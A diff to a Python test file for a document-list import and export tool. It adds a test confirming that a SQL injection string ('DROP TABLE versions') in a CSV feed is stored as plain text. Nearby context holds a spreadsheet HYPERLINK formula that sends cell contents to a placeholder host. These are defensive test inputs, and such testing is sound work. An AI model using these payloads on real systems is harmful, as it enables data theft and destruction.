@@ -368,3 +368,15 @@ def test_export_neutralises_spreadsheet_formulas(
     assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
     assert '\'=HYPERLINK("http://x/?"&A1)' in cells and "'@SUM(1+1)" in cells
     assert "ref-1" in cells and "KG-MVD" in cells  # ordinary values untouched
+
+
+def test_sql_in_a_feed_is_plain_text(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    url = f"sqlite:///{tmp_path}/lists.db"
+    header = "issuing_state,document_type,document_number,status,reference"
+    injection = "x'); DROP TABLE versions; --"
+    feed = write_feed(tmp_path / "sql.csv", [f"KGZ,P,AN1234567,lost,{injection}"], header=header)
+    assert run(capsys, "lists", "import", str(feed), "--lists", url)[0] == ExitCode.ok
+    code, out, _ = run(capsys, "lists", "check", "--json", "--lists", url, "KGZ", "AN1234567")
+    assert code == ExitCode.ok
+    assert json.loads(out)["matches"][0]["record"]["reference"] == injection
+    assert status(url) == {"active": 1, "versions": 1}
